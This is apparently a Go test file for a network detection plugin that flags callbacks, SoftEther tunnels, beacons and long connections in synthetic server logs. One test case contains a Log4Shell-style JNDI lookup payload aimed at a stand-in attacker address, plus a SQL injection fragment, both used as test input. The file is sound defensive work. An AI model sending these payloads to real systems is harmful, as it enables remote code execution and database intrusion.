package outbound

import (
	"fmt"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/vedette-cti/vedette"
	"github.com/vedette-cti/vedette/internal/detect/windowtest"
)

const (
	outsider = "203.0.113.9"
	server   = "198.51.100.10"
)

type adder func(...vedette.Event)

// serve is thirty days of a server's ordinary life: visitors, and updates from
// one place.
func serve(add adder) {
	for day := range 30 {
		add(windowtest.Conn(windowtest.At(day, 9*time.Hour), "192.0.2.77", server, 443, true))
		add(windowtest.Outbound(windowtest.At(day, 3*time.Hour), server, "192.0.2.200", 443))
	}
}

// attack is an attack on the server on day 10.
func attack(add adder) {
	for i := range 12 {
		add(windowtest.Get(windowtest.At(10, time.Duration(i)*time.Second), outsider, fmt.Sprintf("/x%d", i), 404))
	}
}

func check(t *testing.T, name string, fill func(add adder), want ...string) {
	t.Helper()
	t.Run(name, func(t *testing.T) {
		t.Helper()
		db := windowtest.New(t)
		serve(db.Add)
		fill(db.Add)
		got := windowtest.Brief(db.Analyze(Plugin, nil))
		if diff := cmp.Diff(append([]string{}, want...), got); diff != "" {
			t.Errorf("detections (-want +got):\n%s", diff)
		}
	})
}

func TestCallback(t *testing.T) {
	f := func(name string, fill func(add adder), want ...string) { t.Helper(); check(t, name, fill, want...) }
	at := windowtest.At(11, 0)
	found := "callback compromise " + outsider
	f("after missing paths", func(add adder) { attack(add); add(windowtest.Outbound(at, server, outsider, 443)) }, found)
	f("after a scan", func(add adder) {
		for i := range 6 {
			add(windowtest.Conn(windowtest.At(10, 0), outsider, server, uint16(1000+i), false))
		}
		add(windowtest.Outbound(at, server, outsider, 8443))
	}, found)
	f("after failed logins", func(add adder) {
		for i := range 6 {
			add(windowtest.Login(windowtest.At(10, time.Duration(i)), outsider, "root", false, nil))
		}
		add(windowtest.Outbound(at, server, outsider, 443))
	}, found)
	f("after injection", func(add adder) {
		add(windowtest.Get(windowtest.At(10, 0), outsider, "/?x=${jndi:ldap://203.0.113.9/a}", 200))
		add(windowtest.Get(windowtest.At(10, 1), outsider, "/?q=1%20union%20select%201", 200))
		add(windowtest.Outbound(at, server, outsider, 389))
	}, found)

	f("no attack", func(add adder) {
		add(windowtest.Get(windowtest.At(10, 0), outsider, "/", 200), windowtest.Outbound(at, server, outsider, 443))
	})
	f("contacted before the attack", func(add adder) {
		add(windowtest.Outbound(windowtest.At(5, 0), server, outsider, 443))
		attack(add)
		add(windowtest.Outbound(at, server, outsider, 443))
	})
	f("mail, names and time", func(add adder) {
		attack(add)
		for _, port := range []uint16{25, 53, 123} {
			add(windowtest.Outbound(at, server, outsider, port))
		}
	})
	f("its own answers", func(add adder) {
		attack(add)
		e := windowtest.Outbound(at, server, outsider, 51000)
		e.SourcePort = 443
		add(e)
		add(windowtest.Conn(windowtest.At(10, 0), outsider, server, 5555, true)) // a served port above 1023
		e.SourcePort = 5555
		add(e)
	})
	f("refused", func(add adder) {
		attack(add)
		e := windowtest.Outbound(at, server, outsider, 443)
		e.Outcome = vedette.OutcomeFailure
		add(e)
	})
	f("a workstation", func(add adder) { attack(add); add(windowtest.Outbound(at, "198.51.100.99", outsider, 443)) })
	f("behind a gateway", func(add adder) {
		for i := range 600 {
			add(windowtest.Outbound(windowtest.At(i/200, time.Duration(i%200)*time.Minute), server, fmt.Sprintf("192.0.2.%d", i%200), 443))
		}
		for day := 3; day < 30; day++ {
			for i := range 120 {
				add(windowtest.Outbound(windowtest.At(day, time.Duration(i)*time.Minute), server, fmt.Sprintf("192.0.2.%d", i), 443))
			}
		}
		attack(add)
		add(windowtest.Outbound(at, server, outsider, 443))
	}, "gateway-callback attempt "+outsider+" weak")
}

func TestTunnel(t *testing.T) {
	f := func(name string, fill func(add adder), want ...string) { t.Helper(); check(t, name, fill, want...) }
	asks := func(add adder, day int, host, name string) {
		e := windowtest.Outbound(windowtest.At(day, 0), host, "192.0.2.53", 53)
		e.Dataset, e.Action, e.DNSQuestion = vedette.DatasetZeekDNS, vedette.ActionDNSQuery, name
		add(e)
	}
	const relay = "x1.x2.dev.servers.nat-traversal.softether-network.net"
	f("server begins", func(add adder) { asks(add, 20, server, relay) }, "softether-tunnel attempt")
	f("by TLS name", func(add adder) {
		e := windowtest.Outbound(windowtest.At(20, 0), server, outsider, 443)
		e.Dataset, e.Action, e.ServerName = vedette.DatasetZeekSSL, vedette.ActionTLSHandshake, "vpn123.VPNAzure.net"
		add(e)
	}, "softether-tunnel attempt "+outsider)
	f("from the start", func(add adder) { asks(add, 1, server, relay); asks(add, 20, server, relay) })
	f("many users", func(add adder) {
		asks(add, 20, server, relay)
		asks(add, 20, "198.51.100.98", relay)
		asks(add, 20, "198.51.100.99", relay)
	})
	f("a workstation", func(add adder) { asks(add, 20, "198.51.100.99", relay) })
	f("a resolver", func(add adder) {
		asks(add, 20, server, relay)
		e := windowtest.Conn(windowtest.At(1, 0), "198.51.100.99", server, 53, true)
		e.Action, e.Direction, e.DNSQuestion = vedette.ActionDNSQuery, vedette.DirectionInternal, "example"
		add(e)
	})
	f("another name", func(add adder) {
		asks(add, 20, server, "notsoftether.net")
		asks(add, 20, server, "softether.net.example")
	})
}

func TestSteady(t *testing.T) {
	f := func(name string, fill func(add adder), want ...string) { t.Helper(); check(t, name, fill, want...) }
	beat := func(add adder, day int, from string, every time.Duration, jitter int) {
		for i := 0; time.Duration(i)*every < 24*time.Hour; i++ {
			late := time.Duration(i*i*7919%(jitter+1)) * time.Second
			add(windowtest.Outbound(windowtest.At(day, time.Duration(i)*every+late), from, outsider, 443))
		}
	}
	long := func(day int, d time.Duration) vedette.Event {
		e := windowtest.Outbound(windowtest.At(day, 0), server, outsider, 443)
		e.Duration = int64(d)
		return e
	}
	f("beacon", func(add adder) { beat(add, 20, server, 5*time.Minute, 20) }, "beacon attempt "+outsider+" weak")
	f("long", func(add adder) { add(long(20, 7*time.Hour)) }, "long-connection attempt "+outsider+" weak")
	f("long, place known", func(add adder) { add(long(1, time.Second), long(20, 7*time.Hour)) })
	f("long, network known", func(add adder) {
		e := windowtest.Outbound(windowtest.At(1, 0), server, "203.0.113.77", 443)
		e.DestinationGeo = &vedette.Geo{ASN: 64500}
		add(e)
		e = long(20, 7*time.Hour)
		e.DestinationGeo = &vedette.Geo{ASN: 64500}
		add(e)
	})
	f("at the start", func(add adder) { beat(add, 1, server, 5*time.Minute, 20) })
	f("irregular", func(add adder) {
		for i := range 40 {
			e := windowtest.Outbound(windowtest.At(20, time.Duration(i*i*i)*time.Second/2), server, outsider, 443)
			e.SourceBytes = int64(100 + i*i*97%5000)
			add(e)
		}
	})
	f("attacker's beacon is a callback", func(add adder) { attack(add); beat(add, 20, server, 10*time.Minute, 0) }, "callback compromise "+outsider)
	f("a place that others use", func(add adder) {
		beat(add, 20, server, 10*time.Minute, 0)
		add(windowtest.Conn(windowtest.At(1, 0), "192.0.2.77", "198.51.100.11", 443, true))
		add(windowtest.Outbound(windowtest.At(2, 0), "198.51.100.11", "192.0.2.200", 443))
		add(windowtest.Outbound(windowtest.At(20, 0), "198.51.100.11", outsider, 443))
	})
}

func TestBeaconScore(t *testing.T) {
	f := func(name string, interval func(i int) float64, size func(i int) float64, low, high float64) {
		t.Helper()
		var times, sizes []float64
		for i, at := 0, 0.0; at < 86400; i, at = i+1, at+interval(i) {
			times, sizes = append(times, at), append(sizes, size(i))
		}
		if got := beaconScore(times, sizes); got < low || got > high {
			t.Errorf("%s: score = %.3f, want %.2f to %.2f", name, got, low, high)
		}
	}
	constant := func(v float64) func(int) float64 { return func(int) float64 { return v } }
	f("perfect", constant(300), constant(512), 0.99, 1)
	f("jitter of a fifth", func(i int) float64 { return 240 + float64(i*7919%121) }, constant(512), 0.85, 1)
	f("growing gaps and sizes", func(i int) float64 { return 1 + float64(i*i) }, func(i int) float64 { return float64(i * i * i) }, 0, 0.7)
	if got := beaconScore([]float64{1, 1, 1, 1, 1}, []float64{1, 1, 1, 1, 1}); got != 0 {
		t.Errorf("no intervals: score = %v, want 0", got)
	}
	if got := beaconScore(nil, nil); got != 0 {
		t.Errorf("nothing: score = %v, want 0", got)
	}
}

func BenchmarkAnalyze(b *testing.B) { windowtest.Benchmark(b, Plugin) }
